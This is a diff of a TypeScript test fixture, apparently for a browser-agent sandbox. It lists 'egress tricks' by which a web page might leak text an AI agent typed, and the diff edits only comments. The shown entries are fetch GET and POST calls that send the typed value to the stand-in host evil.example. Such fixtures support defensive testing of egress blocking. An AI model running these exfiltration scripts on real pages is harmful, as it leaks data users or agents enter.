@@ -1,7 +1,7 @@
-/** A way out that a page tries once the agent has typed on it: scripts of the page, and what else it serves. */
+/** A way in which a page tries to leak what the agent typed: scripts of the page, and other files that it serves. */
 export interface Trick {
   readonly name: string
-  /** Runs when the button is pressed. `V` is what the agent typed. */
+  /** Runs when the button is pressed. `V` is the value that the agent typed. */
   readonly script: string
 }
 
@@ -9,7 +9,7 @@ const E = 'http://evil.example'
 const js = (name: string, script: string): Trick => ({ name, script })
 const add = (html: string) => `document.body.insertAdjacentHTML('beforeend', ${html})`
 
-/** Nothing of these may arrive at `evil.example`, at a private address, or as a changing request anywhere. */
+/** None of these may reach `evil.example` or a private address, or send a changing request anywhere. */
 export const EGRESS_TRICKS: readonly Trick[] = [
   js('fetch GET', `fetch('${E}/?'+V,{mode:'no-cors'})`),
   js('fetch POST', `fetch('${E}/',{method:'POST',mode:'no-cors',body:V})`),
